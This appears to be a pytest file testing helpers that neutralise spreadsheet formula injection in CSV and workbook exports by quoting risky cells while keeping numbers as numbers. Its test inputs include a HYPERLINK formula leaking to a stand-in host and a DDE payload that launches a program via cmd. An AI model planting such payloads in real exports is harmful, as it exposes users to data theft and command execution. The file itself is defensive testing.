"""Cells a spreadsheet would run as a formula are written as text; numbers stay numbers."""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest

from goldenthread.commands import audit as audit_command
from goldenthread.core.spreadsheet_safety import (
    SpreadsheetCsvWriter,
    spreadsheet_cell,
    spreadsheet_number_or_text,
    spreadsheet_text,
)

FORMULAS = [
    "-2+3",
    '=HYPERLINK("http://example.invalid/?leak=1","Click")',
    "@SUM(A1:A9)",
    "\tx",
    "\r=1+1",
    "+cmd|' /C calc'!A0",
    "-",
    "\0=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["I will read", "", "'=already text", "2-3", "Year 6 - spring"])
def test_other_text_is_left_alone(text: str) -> None:
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize("text", ["-3", "-0.40", "+12%", "-5%", "42"])
def test_text_that_is_wholly_a_number_is_left_alone(text: str) -> None:
    assert spreadsheet_text(text) == text


@pytest.mark.parametrize("value", [-5, -0.5, Decimal("-3.20"), 0, dt.date(2026, 1, 2)])
def test_numbers_and_dates_stay_what_they_are(value: object) -> None:
    assert spreadsheet_cell(value) is value


def test_none_is_an_empty_cell_and_other_values_become_safe_text() -> None:
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(True) == "True"
    assert spreadsheet_cell(["-1+1"]) == "['-1+1']"


def test_making_safe_twice_changes_nothing_more() -> None:
    for text in FORMULAS:
        assert spreadsheet_text(spreadsheet_text(text)) == spreadsheet_text(text)


def test_whole_numbers_shown_as_text_become_numbers_for_a_workbook() -> None:
    assert spreadsheet_number_or_text("-7") == -7
    assert spreadsheet_number_or_text("12") == 12
    assert spreadsheet_number_or_text("-2+3") == "'-2+3"
    assert spreadsheet_number_or_text("12.5%") == "12.5%"


def test_the_csv_writer_quotes_text_and_leaves_numbers_bare() -> None:
    out = io.StringIO()
    writer = SpreadsheetCsvWriter(out)
    writer.writerow([-5, "-2+3", 1.5, None, 'a,"=1+1"', "x\n@SUM(A1)"])
    assert out.getvalue() == '-5,"\'-2+3",1.5,"","a,""=1+1""","x\n@SUM(A1)"\r\n'
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["-5", "'-2+3", "1.5", "", 'a,"=1+1"', "x\n@SUM(A1)"]  # still six cells


def test_the_audit_command_csv_keeps_formulas_as_text_and_numbers_as_numbers(
    tmp_path: Path,
) -> None:
    source = tmp_path / "outcomes.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text", "note"])
        for number, formula in enumerate(FORMULAS[:5], 1):
            writer.writerow([number, f"{formula} By July 2027 I will read aloud.", formula])
    out = tmp_path / "audit.csv"
    parser = argparse.ArgumentParser()
    audit_command.add_arguments(parser)
    assert audit_command.run(parser.parse_args([str(source), "-o", str(out)])) == 0
    with out.open(encoding="utf-8", newline="") as handle:
        # Read as a spreadsheet would: every unquoted cell must be a number.
        rows = list(csv.DictReader(handle, quoting=csv.QUOTE_NONNUMERIC))
    assert [row["note"] for row in rows] == ["'" + formula for formula in FORMULAS[:5]]
    statements = [f"{formula} By July 2027 I will read aloud.".strip() for formula in FORMULAS[:5]]
    assert [row["text"] for row in rows] == [
        "'-2+3 By July 2027 I will read aloud.",
        "'" + statements[1],
        "'" + statements[2],
        "x By July 2027 I will read aloud.",  # the reader strips the tab: nothing to run
        "'=1+1 By July 2027 I will read aloud.",
    ]
    assert all(isinstance(row["score"], float) for row in rows)
